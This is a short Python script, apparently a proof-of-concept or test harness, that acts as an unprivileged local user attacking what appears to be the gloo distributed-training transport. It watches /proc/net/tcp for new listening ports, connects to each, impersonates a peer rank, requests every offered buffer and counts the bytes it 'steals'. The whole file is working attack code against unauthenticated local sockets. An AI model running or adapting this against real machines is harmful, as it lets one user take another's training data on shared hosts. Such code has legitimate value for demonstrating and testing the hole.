"""A user of this machine who knows no secret: connects to every new listener, says which rank it is
(8 bytes, in turn 0, 1, 2 and the world's size), and asks for whatever is offered. Ends with its
standard input and says how many connections it made, how many were spoken to, and what it got."""

import encodings.idna  # noqa: F401 -- who became nobody may not read it any more
import os
import socket
import struct
import sys
import threading
import time

if os.getuid() == 0:
    os.setgid(65534)
    os.setuid(65534)

HEAD = struct.Struct("<6Q")
counts = {"connections": 0, "offers": 0, "stolen": 0}


def listeners():
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(table) as lines:
            next(lines)
            for line in lines:
                fields = line.split()
                if fields[3] == "0A":
                    found.add((int(fields[1].rpartition(":")[2], 16), fields[9]))
    return found


def attack(port, rank):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=20) as victim:
            counts["connections"] += 1
            victim.sendall(struct.pack("<q", rank))
            data = victim.makefile("rb")
            while True:
                total, op, slot, _, length, _ = HEAD.unpack(data.read(HEAD.size))
                if total > 1 << 40:
                    return  # no gloo: some other program's words
                counts["offers"] += 1
                if op == 2:  # "I have something for you": "then send it"
                    victim.sendall(HEAD.pack(HEAD.size, 3, slot, 0, length, 0))
                elif op == 1:
                    counts["stolen"] += len(data.read(length))
    except (OSError, struct.error):
        pass


def watch():
    old, attacks = listeners(), 0
    while True:
        new = listeners()
        for port, _ in new - old:
            threading.Thread(target=attack, args=(port, attacks % 4), daemon=True).start()
            attacks += 1
        old = new
        time.sleep(0.0005)


threading.Thread(target=watch, daemon=True).start()
print("watching", flush=True)
sys.stdin.read()
print(" ".join(str(counts[name]) for name in ("connections", "offers", "stolen")), flush=True)
os._exit(0)
